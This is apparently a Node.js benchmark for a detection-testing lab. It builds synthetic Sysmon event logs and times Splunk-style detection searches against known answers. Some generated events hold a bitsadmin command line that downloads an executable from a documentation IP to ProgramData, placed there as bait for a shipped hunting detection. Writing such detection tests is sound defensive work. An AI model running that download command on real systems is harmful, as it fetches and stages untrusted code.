/**
 * Events a second through the lab, one thread: JSON lines and XML, with 20 and with 100 detections. The answers are known,
 * since the events are made here: a run that finds one row more or less fails. Last, all that this app ships, by the program
 * itself (build it first), over the same events.
 *
 *   node bench/lab.js [events]
 */
import { mkdtempSync, rmSync, openSync, writeSync, closeSync, statSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { build } from 'esbuild';

const events = Number(process.argv[2] ?? 300_000);
const RUNS = 5;
/** One event in so many is what a detection looks for. */
const HIT_EVERY = 1_000;
/** One in so many is a transfer by bitsadmin. */
const TRANSFER_EVERY = 50_000;

const folder = mkdtempSync(join(tmpdir(), 'bitsjobs-bench-'));
process.on('exit', () => rmSync(folder, { recursive: true, force: true }));

const REQUIRE = "import { createRequire } from 'node:module'; const require = createRequire(import.meta.url);";
await build({ stdin: { contents: "export * from './src/lab/index.ts'; export { datasetFields } from './src/cim/index.ts';", resolveDir: join(import.meta.dirname, '..'), loader: 'ts' }, bundle: true, format: 'esm', platform: 'node', outfile: join(folder, 'lab.mjs'), banner: { js: REQUIRE }, logLevel: 'error' });
const { readApp, runSearches, timeLimit, datasetFields } = await import(pathToFileURL(join(folder, 'lab.mjs')).href);

const programs = ['svchost.exe', 'chrome.exe', 'teams.exe', 'explorer.exe', 'taskhostw.exe', 'conhost.exe', 'runtimebroker.exe', 'onedrive.exe', 'searchindexer.exe', 'msedge.exe', 'backgroundTaskHost.exe', 'dllhost.exe'];

/** A Sysmon process creation of realistic size; `n` is spread over what varies. */
function event(n) {
  const hit = n % HIT_EVERY === 0;
  const transfers = n % TRANSFER_EVERY === 1;
  const program = transfers ? 'bitsadmin.exe' : hit ? 'tool7.exe' : programs[n % programs.length];
  const second = n % 86_400;
  const time = `2026-03-02T${String(Math.floor(second / 3600)).padStart(2, '0')}:${String(Math.floor(second / 60) % 60).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}.123Z`;
  const hash = createHash('sha256').update(String(n)).digest('hex').toUpperCase();
  return {
    EventID: 1, Provider: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: `ws${n % 500}.corp.example`, TimeCreated: time, EventRecordID: String(100_000 + n), Level: '4', Task: '1', Opcode: '0', Keywords: '0x8000000000000000',
    EventData: {
      RuleName: '-', UtcTime: time.replace('T', ' ').replace('Z', ''), ProcessGuid: `{5d1f0c3a-${hash.slice(0, 4)}-${hash.slice(4, 8)}-0100-${hash.slice(8, 20)}}`, ProcessId: String(n % 60_000), Image: `C:\\Program Files\\Vendor ${n % 40}\\App\\${program}`, FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
      Description: 'A program of an invented vendor', Product: 'Invented Product Suite', Company: 'Invented Corporation', OriginalFileName: program,
      CommandLine: transfers ? `bitsadmin  /transfer job${n} https://198.51.100.7/a.exe C:\\ProgramData\\a.exe` : hit ? `"C:\\Program Files\\Vendor\\App\\${program}" --fetch word7 --job ${n}` : `"C:\\Program Files\\Vendor ${n % 40}\\App\\${program}" --type=renderer --enable-features=one,two,three --field-trial-handle=${n},i,${n % 97},262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=${n % 1000}`,
      CurrentDirectory: 'C:\\Windows\\system32\\', User: `CORP\\user${n % 700}`, LogonGuid: '{5d1f0c3a-0000-0000-e703-000000000000}', LogonId: '0x3e7', TerminalSessionId: '1', IntegrityLevel: 'Medium',
      Hashes: `SHA256=${hash}`, ParentProcessGuid: `{5d1f0c3a-${hash.slice(20, 24)}-${hash.slice(24, 28)}-0100-${hash.slice(28, 40)}}`, ParentProcessId: '4', ParentImage: 'C:\\Windows\\explorer.exe', ParentCommandLine: 'C:\\Windows\\Explorer.EXE', ParentUser: `CORP\\user${n % 700}`,
    },
  };
}

const escape = (text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');

function xml(one) {
  const data = Object.entries(one.EventData).map(([name, value]) => `<Data Name='${name}'>${escape(value)}</Data>`).join('');
  return `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='${one.Provider}' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>${one.Keywords}</Keywords><TimeCreated SystemTime='${one.TimeCreated}'/><EventRecordID>${one.EventRecordID}</EventRecordID><Correlation/><Execution ProcessID='3208' ThreadID='1724'/><Channel>${one.Channel}</Channel><Computer>${one.Computer}</Computer><Security UserID='S-1-5-18'/></System><EventData>${data}</EventData></Event>`;
}

function writeEvents(name, text) {
  const file = join(folder, name);
  const handle = openSync(file, 'w');
  for (let from = 0; from < events; from += 10_000) {
    let chunk = '';
    for (let n = from; n < Math.min(from + 10_000, events); n++) chunk += `${text(event(n))}\n`;
    writeSync(handle, chunk);
  }
  closeSync(handle);
  return file;
}

/** As the detections of this app are written: a program by two names, and words of its command line. Number 7 is the one that fires. */
function app(count) {
  const stanzas = Array.from({ length: count }, (_, index) => (count === 1 ? 7 : index)).map((n) => [
    `[BENCH - Detection ${n} - Rule]`, 'action.risk = 1', 'action.risk.param._risk = [{"risk_message":"$process$","risk_object_field":"dest","risk_object_type":"system","risk_score":10}]', 'disabled = 0',
    `search = | tstats summariesonly=false fillnull_value=null count min(_time) as firstTime max(_time) as lastTime from datamodel=Endpoint.Processes where (Processes.process_name=tool${n}.exe OR Processes.original_file_name=tool${n}.exe) Processes.process IN ("*word${n}*", "*other${n}*") by Processes.dest Processes.user Processes.process_name Processes.process Processes.process_id | rename Processes.* as *`,
  ].join('\n'));
  return readApp(new Map([['default/savedsearches.conf', stanzas.join('\n\n')]]));
}

async function time(file, count, everything) {
  const installed = app(count);
  const options = { files: [file], defaults: { time: 0, host: 'h' }, now: 1_772_500_000, schedule: false, timeZone: 'UTC', random: () => 0.5, clock: () => performance.now(), guard: timeLimit(60_000), findExternal: () => undefined, datasetFields, everything };
  const start = performance.now();
  const summary = await runSearches([...installed.searches.values()], installed, options);
  const seconds = (performance.now() - start) / 1000;
  const wanted = Math.ceil(events / HIT_EVERY);
  const rows = summary.searches.map((search) => search.rows);
  const fired = summary.searches.filter(({ rows: found }) => found > 0).map(({ name }) => name);
  if (summary.reading.records !== events || summary.reading.brokenCount > 0 || rows.reduce((a, b) => a + b, 0) !== wanted || fired.join() !== 'BENCH - Detection 7 - Rule') throw new Error(`wrong answer: ${summary.reading.records} records, ${rows.filter(Boolean)} rows, ${fired}`);
  return events / seconds;
}

const files = { JSON: writeEvents('events.jsonl', (one) => JSON.stringify(one)), XML: writeEvents('events.xml', xml) };
for (const [name, file] of Object.entries(files)) console.log(`${name}: ${events} events, ${(statSync(file).size / 1024 / 1024).toFixed(0)} MiB`);
console.log('format  detections  records read   events a second (min / median / max)');
for (const [name, file] of Object.entries(files)) {
  for (const [count, everything] of [[1, false], [20, false], [100, false], [20, true]]) {
    const rates = [];
    for (let run = 0; run < (everything ? 2 : RUNS); run++) rates.push(await time(file, count, everything));
    rates.sort((a, b) => a - b);
    const show = (rate) => Math.round(rate).toLocaleString('en-US').padStart(9);
    console.log(`${name.padEnd(6)} ${String(count).padStart(11)}  ${(everything ? 'every one' : 'that matter').padEnd(12)} ${show(rates[0])} / ${show(rates[rates.length >> 1])} / ${show(rates.at(-1))}`);
  }
}

/** As a user runs it, reading of content and start of Node left out. */
function shipped(file) {
  const { stdout, stderr } = spawnSync(process.execPath, [join(import.meta.dirname, '../dist/cli.js'), 'run', '--events', file, '--format', 'json'], { encoding: 'utf8', cwd: join(import.meta.dirname, '..'), maxBuffer: 2 ** 30 });
  const [, read, seconds, matter] = /^(\d+) events read in ([\d.]+) s, \d+ a second; (\d+) /m.exec(stderr) ?? [];
  const hunted = stdout.split('\n').filter((line) => line.includes('"detection":"Hunt Bitsadmin Use"')).length;
  if (Number(read) !== events || hunted !== Math.ceil((events - 1) / TRANSFER_EVERY)) throw new Error(`wrong answer: ${read} records, ${hunted} transfers\n${stderr.slice(0, 500)}`);
  return { rate: events / Number(seconds), matter, searches: stderr.split('\n').filter((line) => line.includes(' results, ')).length };
}

for (const [name, file] of Object.entries(files)) {
  const runs = Array.from({ length: RUNS }, () => shipped(file)).sort((a, b) => a.rate - b.rate);
  const show = (run) => Math.round(run.rate).toLocaleString('en-US').padStart(9);
  console.log(`${name.padEnd(6)} ${String(runs[0].searches).padStart(11)}  that ship    ${show(runs[0])} / ${show(runs[runs.length >> 1])} / ${show(runs.at(-1))}; ${runs[0].matter} records matter`);
}
